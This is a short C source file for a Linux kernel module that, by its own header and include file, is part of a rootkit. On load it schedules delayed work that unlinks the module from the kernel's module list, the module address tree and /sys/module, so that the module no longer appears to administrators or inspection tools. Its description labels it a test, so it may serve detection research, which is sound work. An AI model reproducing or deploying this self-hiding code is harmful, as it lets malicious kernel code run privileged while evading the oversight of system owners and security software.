// SPDX-License-Identifier: GPL-2.0
/* Leaves the list of modules, /sys/module, and the tree of their addresses. */
#include <linux/workqueue.h>

#include "rootkit.h"

static void (*tree_remove)(struct module *module);

static void hide(struct work_struct *work)
{
	list_del_init(&THIS_MODULE->list);
	tree_remove(THIS_MODULE);
	/* the last, so that a test can see that all is done */
	kobject_del(&THIS_MODULE->mkobj.kobj);
}

/* Not before the kernel has freed what it needs for loading alone, which it takes out itself. */
static DECLARE_DELAYED_WORK(work, hide);

static int __init rk_init(void)
{
	tree_remove = (void *)symbol_of("mod_tree_remove");
	if (!tree_remove)
		return -ENOENT;
	schedule_delayed_work(&work, HZ);
	return 0;
}

module_init(rk_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("A test: is in no list of modules");
